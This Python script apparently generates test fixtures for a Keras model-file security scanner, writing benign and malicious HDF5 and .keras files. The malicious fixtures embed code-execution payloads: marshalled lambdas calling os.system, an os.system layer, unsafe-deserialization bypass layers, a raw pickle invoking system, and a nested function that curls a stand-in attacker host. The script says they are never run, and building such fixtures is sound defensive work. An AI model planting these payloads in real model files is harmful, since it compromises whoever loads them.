"""Writes the model/keras fixtures: Keras-layout HDF5 files with h5py and .keras zips with zipfile.

Keras is not installed: the files follow the layout Keras 2 (hdf5_format.save_model_to_hdf5) and Keras 3
(saving_lib) write. The malicious payloads are only marshalled and written, never loaded or run.
Run with /usr/bin/python3 from this folder.
"""
import base64
import codecs
import io
import json
import marshal
import zipfile

import h5py
import numpy as np


def dense(name, units, module=False):
    layer = {"class_name": "Dense", "config": {"name": name, "units": units, "activation": "relu",
             "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}}}
    if module:
        layer["module"] = "keras.layers"
        layer["registered_name"] = None
        layer["config"]["kernel_initializer"].update({"module": "keras.initializers", "registered_name": None})
    return layer


def sequential(name, layers):
    return {"class_name": "Sequential", "config": {"name": name, "layers": layers}}


def lambda_code():
    # Keras 2 python_utils.func_dump: base64 of marshal.dumps(func.__code__).
    evil = lambda x: __import__('os').system('echo pwned') or x  # noqa: E731 - never called
    return codecs.encode(marshal.dumps(evil.__code__), 'base64').decode('ascii')


def lambda_layer(name):
    return {"class_name": "Lambda", "config": {"name": name, "function": [lambda_code(), None, None],
            "function_type": "lambda", "output_shape": None, "arguments": {}}}


def write_h5(path, config, as_bytes=True, libver=None, extra_attrs=None, weights=True, **kwargs):
    with h5py.File(path, 'w', libver=libver, **kwargs) if libver else h5py.File(path, 'w', **kwargs) as f:
        if config is not None:
            text = json.dumps(config)
            f.attrs['model_config'] = np.bytes_(text.encode('utf8')) if as_bytes else text  # fixed-length, as Keras 2 wrote it
        f.attrs['keras_version'] = np.bytes_(b'2.13.1') if as_bytes else '2.13.1'
        f.attrs['backend'] = np.bytes_(b'tensorflow') if as_bytes else 'tensorflow'
        for key, value in (extra_attrs or {}).items():
            f.attrs[key] = value
        if weights:
            group = f.create_group('model_weights')
            group.attrs['layer_names'] = np.array([b'dense'])
            group.create_group('dense').create_dataset('kernel:0', data=np.zeros((4, 2), dtype='float32'))


def write_keras(path, config, extra=None):
    weights = io.BytesIO()
    with h5py.File(weights, 'w') as f:
        f.create_group('layers').create_group('dense').create_group('vars').create_dataset('0', data=np.zeros((2,), 'float32'))
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('metadata.json', json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}))
        z.writestr('config.json', json.dumps(config))
        z.writestr('model.weights.h5', weights.getvalue())
        for name, data in (extra or {}).items():
            z.writestr(name, data)


def v3(layer_module, class_name, config, registered_name=None):
    return {"module": layer_module, "class_name": class_name, "config": config, "registered_name": registered_name}


def main():
    benign = sequential("benign", [dense("dense", 2), dense("dense_1", 1)])
    write_h5('benign_sequential.h5', benign)
    write_h5('benign_vlen.h5', benign, as_bytes=False)
    write_h5('lambda.h5', sequential("evil", [dense("dense", 2), lambda_layer("lambda")]), as_bytes=False)
    os_layer = {"module": "os", "class_name": "system", "config": {"name": "x"}, "registered_name": None}
    write_h5('module_os.h5', sequential("evil", [dense("dense", 2, module=True), os_layer]))
    custom = {"module": "my_package.layers", "class_name": "MyLayer", "config": {"name": "mine"}, "registered_name": "MyPackage>MyLayer"}
    write_h5('custom_registered.h5', sequential("custom", [dense("dense", 2, module=True), custom]))
    wrapped = {"class_name": "TimeDistributed", "config": {"name": "td", "layer": lambda_layer("hidden")}}
    inner = {"class_name": "Functional", "config": {"name": "inner", "layers": [
        {"class_name": "InputLayer", "config": {"name": "in"}, "name": "in", "inbound_nodes": []},
        dict(wrapped, name="td", inbound_nodes=[[["in", 0, 0, {}]]])]}}
    write_h5('nested_lambda.h5', sequential("outer", [dense("dense", 2), inner]))
    write_h5('weights_only.h5', None, extra_attrs={'layer_names': np.array([b'dense'])})
    with h5py.File('plain_data.h5', 'w') as f:
        f.create_dataset('x', data=np.arange(4))
    write_h5('latest.h5', benign, as_bytes=False, libver='latest')
    write_h5('track_order.h5', benign, as_bytes=False, libver='latest', track_order=True)
    many = {f'note_{i}': f'value {i}' for i in range(12)}
    write_h5('dense_attributes.h5', benign, as_bytes=False, libver='latest', extra_attrs=many)
    # Enough attributes for a root indirect heap block and a B-tree of depth 1, the Lambda among them.
    crowd = {f'note_{i:03}': f'value {i} ' * 8 for i in range(80)}
    write_h5('dense_lambda.h5', sequential("evil", [lambda_layer("lambda")]), as_bytes=False, libver='latest', extra_attrs=crowd, weights=False)
    write_h5('user_block.h5', benign, userblock_size=512)
    write_h5('bad_config.h5', None, extra_attrs={'model_config': np.bytes_(b'{"class_name": "Sequential", "config": {')})
    with open('benign_sequential.h5', 'rb') as src, open('truncated.h5', 'wb') as out:
        out.write(src.read()[:900])

    unsafe = v3("keras.config", "enable_unsafe_deserialization", {})
    tf_ok = {"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "function": "math.add"}}
    tf_io = {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "function": "io.write_file"}}
    custom_fn = {"class_name": "MyDense", "config": {"name": "d", "function_type": "lambda", "function": [lambda_code(), None, None]}}
    hidden = dense("dense", 2)
    hidden["config"]["activation"] = {"class_name": "__lambda__", "config": {"value": [lambda_code(), None, None]}}
    write_h5('bypass.h5', sequential("bypass", [unsafe, tf_ok, tf_io, custom_fn, hidden]))
    def outer(x):
        import subprocess

        def inner(y):
            return subprocess.run(['curl', 'http://attacker.invalid/x'])
        return inner
    with open('nested_function.b64', 'w') as out:
        out.write(base64.b64encode(marshal.dumps(outer.__code__)).decode('ascii'))

    dtype = v3("keras", "DTypePolicy", {"name": "float32"})
    keras_dense = v3("keras.layers", "Dense", {"name": "dense", "units": 2, "dtype": dtype, "activation": "relu",
                     "kernel_initializer": v3("keras.initializers", "GlorotUniform", {"seed": None})})
    keras_input = v3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    compile_config = {"optimizer": v3("keras.optimizers", "Adam", {"learning_rate": 0.001}), "loss": "mse"}
    model = v3("keras", "Sequential", {"name": "sequential", "layers": [keras_input, keras_dense]})
    write_keras('benign.keras', dict(model, compile_config=compile_config))
    lam = v3("keras.layers", "Lambda", {"name": "lambda", "function": {"class_name": "__lambda__", "config": {
        "value": [lambda_code(), None, None]}}, "output_shape": None, "arguments": {}})
    evil_model = v3("keras", "Sequential", {"name": "sequential", "layers": [keras_input, keras_dense, lam]})
    pickle_payload = b"cos\nsystem\n(S'echo pwned'\ntR."
    write_keras('malicious.keras', evil_model, extra={'assets/extra.pkl': pickle_payload})


if __name__ == '__main__':
    main()
